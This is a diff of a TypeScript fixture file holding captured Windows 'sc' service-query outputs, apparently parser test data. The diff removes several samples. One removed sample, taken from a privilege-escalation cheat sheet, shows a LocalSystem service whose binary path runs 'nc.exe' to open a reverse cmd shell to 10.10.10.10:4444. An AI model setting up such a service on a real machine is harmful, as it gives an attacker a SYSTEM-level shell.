@@ -80,38 +80,6 @@ export const scStartDoc: Sample = {
   text: 'SERVICE_NAME: .NET Joke Service\n    TYPE               : 10  WIN32_OWN_PROCESS\n    STATE              : 2  START_PENDING\n                            (NOT_STOPPABLE, NOT_PAUSABLE, IGNORES_SHUTDOWN)\n    WIN32_EXIT_CODE    : 0  (0x0)\n    SERVICE_EXIT_CODE  : 0  (0x0)\n    CHECKPOINT         : 0x0\n    WAIT_HINT          : 0x7d0\n    PID                : 37636\n    FLAGS\n',
 };
 
-/** §2.1 swisskyrepo/InternalAllTheThings windows-privilege-escalation.md @203bb0c0 (paste, Windows 10) */
-export const scQcDelayed: Sample = {
-  source:
-    '§2.1 swisskyrepo/InternalAllTheThings windows-privilege-escalation.md @203bb0c0 (paste, Windows 10)',
-  text: 'PS C:\\Windows\\system32> sc.exe qc usosvc\n[SC] QueryServiceConfig SUCCESS\n\nSERVICE_NAME: usosvc\n        TYPE               : 20  WIN32_SHARE_PROCESS \n        START_TYPE         : 2   AUTO_START  (DELAYED)\n        ERROR_CONTROL      : 1   NORMAL\n        BINARY_PATH_NAME   : C:\\Users\\mssql-svc\\Desktop\\nc.exe 10.10.10.10 4444 -e cmd.exe\n        LOAD_ORDER_GROUP   : \n        TAG                : 0\n        DISPLAY_NAME       : Update Orchestrator Service\n        DEPENDENCIES       : rpcss\n        SERVICE_START_NAME : LocalSystem\n\n',
-};
-
-/** §2.2 https://github.com/google/password-sync-support-tool/issues/12 (real paste) */
-export const scQcNetworkService: Sample = {
-  source: '§2.2 https://github.com/google/password-sync-support-tool/issues/12 (real paste)',
-  text: 'C:\\>sc qc "G Suite Password Sync"\n[SC] QueryServiceConfig SUCCESS\n\nSERVICE_NAME: G Suite Password Sync\n        TYPE               : 10  WIN32_OWN_PROCESS\n        START_TYPE         : 2   AUTO_START\n        ERROR_CONTROL      : 1   NORMAL\n        BINARY_PATH_NAME   : "C:\\Program Files\\Google\\G Suite Password Sync\\password_sync_service.exe"\n        LOAD_ORDER_GROUP   :\n        TAG                : 0\n        DISPLAY_NAME       : G Suite Password Sync\n        DEPENDENCIES       :\n        SERVICE_START_NAME : NT AUTHORITY\\NetworkService\n',
-};
-
-/** §2.3 shell-fire/shellfire-vpn WindowsVpnController.java @b11942fb (code comment of a real run, de-DE) */
-export const scQcGerman: Sample = {
-  source:
-    '§2.3 shell-fire/shellfire-vpn WindowsVpnController.java @b11942fb (code comment of a real run, de-DE)',
-  text: '[SC] QueryServiceConfig ERFOLG\n\nSERVICE_NAME: WireGuardTunnel$wg-sf35022\n        TYPE               : 10  WIN32_OWN_PROCESS\n        START_TYPE         : 2   AUTO_START\n        ERROR_CONTROL      : 1   NORMAL\n        BINARY_PATH_NAME   : "C:\\Program Files\\WireGuard\\wireguard.exe" /tunnelservice C:\\Users\\Flo\\AppData\\Roaming\\ShellfireVpn\\\\wg-sf35022.conf\n        LOAD_ORDER_GROUP   :\n        TAG                : 0\n        DISPLAY_NAME       : WireGuard Tunnel: wg-sf35022\n        DEPENDENCIES       : Nsi\n                           : TcpIp\n        SERVICE_START_NAME : LocalSystem\n',
-};
-
-/** §2.4 dotnet/docs docs/core/extensions/windows-service.md @02586b23 (doc) */
-export const scQfailureNone: Sample = {
-  source: '§2.4 dotnet/docs docs/core/extensions/windows-service.md @02586b23 (doc)',
-  text: 'sc qfailure ".NET Joke Service"\n[SC] QueryServiceConfig2 SUCCESS\n\nSERVICE_NAME: .NET Joke Service\n        RESET_PERIOD (in seconds)    : 0\n        REBOOT_MESSAGE               :\n        COMMAND_LINE                 :\n',
-};
-
-/** §2.4 dotnet/docs docs/core/extensions/windows-service.md @02586b23 (doc) */
-export const scQfailureActions: Sample = {
-  source: '§2.4 dotnet/docs docs/core/extensions/windows-service.md @02586b23 (doc)',
-  text: 'sc qfailure ".NET Joke Service"\n[SC] QueryServiceConfig2 SUCCESS\n\nSERVICE_NAME: .NET Joke Service\n        RESET_PERIOD (in seconds)    : 0\n        REBOOT_MESSAGE               :\n        COMMAND_LINE                 :\n        FAILURE_ACTIONS              : RESTART -- Delay = 60000 milliseconds.\n                                       RESTART -- Delay = 60000 milliseconds.\n                                       RUN PROCESS -- Delay = 1000 milliseconds.\n',
-};
-
 /** §3.1 dotnet/docs docs/core/extensions/windows-service.md @02586b23 (doc, 4-blank indent) */
 export const scStopDoc: Sample = {
   source:
